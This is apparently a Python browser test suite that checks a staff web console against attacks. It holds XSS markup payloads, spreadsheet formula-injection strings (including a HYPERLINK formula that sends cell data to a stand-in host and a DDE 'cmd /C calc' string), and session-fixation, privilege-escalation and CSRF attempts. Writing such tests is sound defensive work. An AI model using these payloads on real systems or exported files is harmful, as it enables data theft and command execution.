"""What candidates and staff try on the whole service with a browser: markup, formulas, planted cookies, forms of their own."""

import csv
import io
import re
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

import openpyxl
import pytest
from story import Story, story
from story_people import PAYMENT, Staff, current, sent_by_hand, staff_of

pytestmark = pytest.mark.browser
MARKUP = "<img src=x onerror=window.hacked=1><script>window.hacked=2</script><svg onload=window.hacked=3>"
EVIL = f"我家猫病了{MARKUP}\"'><a href=javascript:alert(4)>"
FORMULA = '=HYPERLINK("http://127.0.0.2/?"&A1,"票子掏到几号")'
FORMULAS = (FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0", "+86 票子咋个掏", "-2+3 票子掏到啥子时候")
COOKIE = "kaoda_staff"


@pytest.fixture(scope="module")
def bot(browser: Any, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Story]:
    with story(tmp_path_factory.mktemp("data"), tmp_path_factory.mktemp("none"), is_checking=False) as found:
        yield found


@pytest.fixture
def staff(browser: Any, bot: Story) -> Iterator[Staff]:
    with staff_of(browser, bot.address) as found:
        yield found


def assert_is_text(page: Any, path: str, seen: str = "我家猫病了<img src=x") -> None:
    """The words stand on the page; nothing of them is an element, and nothing ran."""
    answer = page.goto(path)
    assert answer.status == 200, path
    assert seen in page.content().replace("&lt;", "<"), path
    assert page.evaluate("window.hacked") is None, path
    assert page.locator("main :is(img, script, [onload], [onerror], a[href^=javascript])").count() == 0, path


def test_markup_of_a_candidate_stays_text_everywhere(bot: Story, staff: Staff) -> None:
    """From the chat and from WeChat: gaps, journal and each turn in it, trial; as a phrasing: drafts, topic, log."""
    for _ in range(2):
        bot.web(EVIL)
    bot.wechat_text(bot.phone(), EVIL)
    editor, admin = staff.enter("li"), staff.enter("zhou")
    assert_is_text(editor, "/console/")
    assert_is_text(editor, "/console/gaps")
    gap = editor.locator("#gaps a", has_text="我家猫病了").first.get_attribute("href")
    assert_is_text(editor, gap)
    assert_is_text(editor, "/console/journal")
    asked = editor.locator("main table tr", has_text="我家猫病了").locator("a[href^='/console/journal/']")
    turns = dict.fromkeys(asked.evaluate_all("all => all.map(each => each.href)"))
    assert len(turns) == 3, "two in the chat, one in WeChat"
    for turn in turns:
        assert_is_text(editor, turn)
    assert_is_text(editor, f"/console/trial?turns={quote(EVIL)}&region=CN-5111")
    editor.locator("#play").click()
    editor.wait_for_selector("#turn-1")
    assert editor.evaluate("window.hacked") is None
    editor.goto(gap)
    editor.locator("#topic").select_option(label="网上缴费时间")
    editor.locator("#try-phrasing").click()
    editor.wait_for_selector("#won-count")
    assert editor.locator("main :is(img, script)").count() == 0
    editor.locator("#add-phrasing").click()
    editor.wait_for_selector("#said")
    for path in ("/console/drafts/entry?key=topic:payment_window", "/console/topics/payment_window"):
        assert_is_text(editor, path)
    assert_is_text(admin, "/console/gaps?state=phrasing")
    for path in ("/console/log", "/console/numbers", "/console/corrections", "/console/matrix"):
        assert admin.goto(path).status == 200
        assert admin.evaluate("window.hacked") is None


def test_markup_typed_as_a_name_stays_text_in_the_log(bot: Story, staff: Staff) -> None:
    """Who cannot sign in writes into the log what he likes."""
    stranger, admin = staff.page(), staff.enter("zhou")
    stranger.goto("/console/sign-in")
    stranger.get_by_label("姓名").fill(MARKUP)
    stranger.get_by_label("密码").fill("x" * 12)
    stranger.get_by_role("button", name="登录").click()
    stranger.wait_for_selector("[role=alert]")
    assert stranger.evaluate("window.hacked") is None
    assert_is_text(admin, "/console/log", MARKUP[:20])


def test_a_candidate_s_formula_is_no_formula_in_any_file(bot: Story, staff: Staff) -> None:
    """Asked in the chat, made a phrasing, carried out: text in CSV and in Excel, and itself again when it comes back."""
    for text in FORMULAS:
        bot.web(text)
    editor = staff.enter("zhang")
    for text in FORMULAS:
        editor.goto("/console/gaps")
        link = editor.locator("#gaps a").filter(has_text=re.compile(re.escape(text)))
        if not link.count():
            continue
        link.first.click()
        editor.locator("#topic").select_option(label="网上缴费时间")
        editor.locator("#try-phrasing").click()
        editor.wait_for_selector("#won-count")
        editor.locator("#add-phrasing").click()
        editor.wait_for_selector("#said")
    file = "/console/exchange/file?drafts=yes"
    carried = editor.request.get(f"{file}&form=csv&table=phrasings").body()
    assert carried.startswith(b"\xef\xbb\xbf")
    cells = [cell for line in csv.reader(io.StringIO(carried.decode("utf-8-sig"))) for cell in line]
    assert f"'{FORMULA}" in cells
    assert [each for each in cells if each[:1] in set("=+-@\t\r")] == []
    book = openpyxl.load_workbook(io.BytesIO(editor.request.get(f"{file}&form=xlsx").body()))
    values = [cell for sheet in book for line in sheet.iter_rows() for cell in line]
    assert [each.value for each in values if each.data_type == "f"] == []
    assert FORMULA in {each.value for each in values}


def test_a_planted_cookie_is_not_the_session(bot: Story, staff: Staff) -> None:
    """Session fixation: what was put into the browser before somebody signs in opens nothing afterwards."""
    victim, attacker = staff.page(), staff.page()
    planted = {"name": COOKIE, "domain": "127.0.0.1", "path": "/console"}
    attacker.goto("/console/sign-in")
    own = next(each["value"] for each in attacker.context.cookies() if each["name"] == COOKIE)
    for value, path in ((own, "/console"), ("A" * 43, "/console"), ("A" * 43, "/")):
        victim.context.clear_cookies()
        victim.context.add_cookies([planted | {"value": value, "path": path}])
        victim.goto("/console/sign-in")
        victim.get_by_label("姓名").fill("wu")
        victim.get_by_label("密码").fill("tianqing-luoyu")
        victim.get_by_role("button", name="登录").click()
        victim.wait_for_selector("#own-name")
        cookie = next(each for each in victim.context.cookies() if each["name"] == COOKIE and each["httpOnly"])
        assert cookie["value"] not in (own, value)
        assert (cookie["httpOnly"], cookie["sameSite"], cookie["path"]) == (True, "Lax", "/console")
        attacker.context.clear_cookies()
        attacker.context.add_cookies([planted | {"value": value, "path": path}])
        attacker.goto("/console/drafts")
        assert "/console/sign-in" in attacker.url


def test_nobody_rises(bot: Story, staff: Staff) -> None:
    """Forms that a page does not offer, sent with one's own token: publishing, accounts, one's own role, other regions."""
    editor, publisher, viewer = staff.enter("chen"), staff.enter("wang"), staff.enter("wu")
    for page in (editor, viewer):
        page.goto("/console/password")
        assert sent_by_hand(page, "/console/check/publish", [("draft", f"1 {PAYMENT}")]) == 403
        assert sent_by_hand(page, "/console/releases/1/rollback", [("note", "x")]) == 403
    rising = [("role", "admin"), ("is_active", "yes")]
    for page, name in ((editor, "chen"), (publisher, "wang"), (viewer, "wu")):
        page.goto("/console/password")
        assert sent_by_hand(page, f"/console/people/{name}", rising) == 403
        assert sent_by_hand(page, "/console/people", [("name", "evil"), *rising]) == 403
        sent_by_hand(page, "/console/password", [("old", "x"), *rising])
        assert page.goto("/console/people").status == 403
    shanghai = "window:payment/health/CN-31/2024"
    editor.goto(f"/console/entries/text?key={quote(shanghai, safe='')}")
    assert editor.locator("#read-only").count() == 1
    text = editor.locator("#text").input_value().replace("2024", "2023")
    fields = [("key", shanghai), ("seen", "0"), ("text", text), ("base", "")]
    assert sent_by_hand(editor, "/console/entries/text", fields) == 422
    moved = [("key", PAYMENT), ("seen", "0"), ("text", text), ("base", "")]
    assert sent_by_hand(editor, "/console/entries/text", moved) == 422
    publisher.goto("/console/drafts")
    assert "window:" not in publisher.locator("main").inner_html()
    assert current(publisher) == 1


def test_a_form_without_the_token_changes_nothing(bot: Story, staff: Staff) -> None:
    """CSRF, on the whole service: publishing and going back are refused before anything is looked at."""
    admin = staff.enter("zhou")
    for path in ("/console/check/publish", "/console/releases/1/rollback", "/console/years", "/console/exchange"):
        for token in ("", "x" * 64):
            answer = admin.request.post(f"{bot.address}{path}", form={"csrf": token, "note": "x"}, max_redirects=0)
            assert answer.status == 403, path
    assert current(admin) == 1
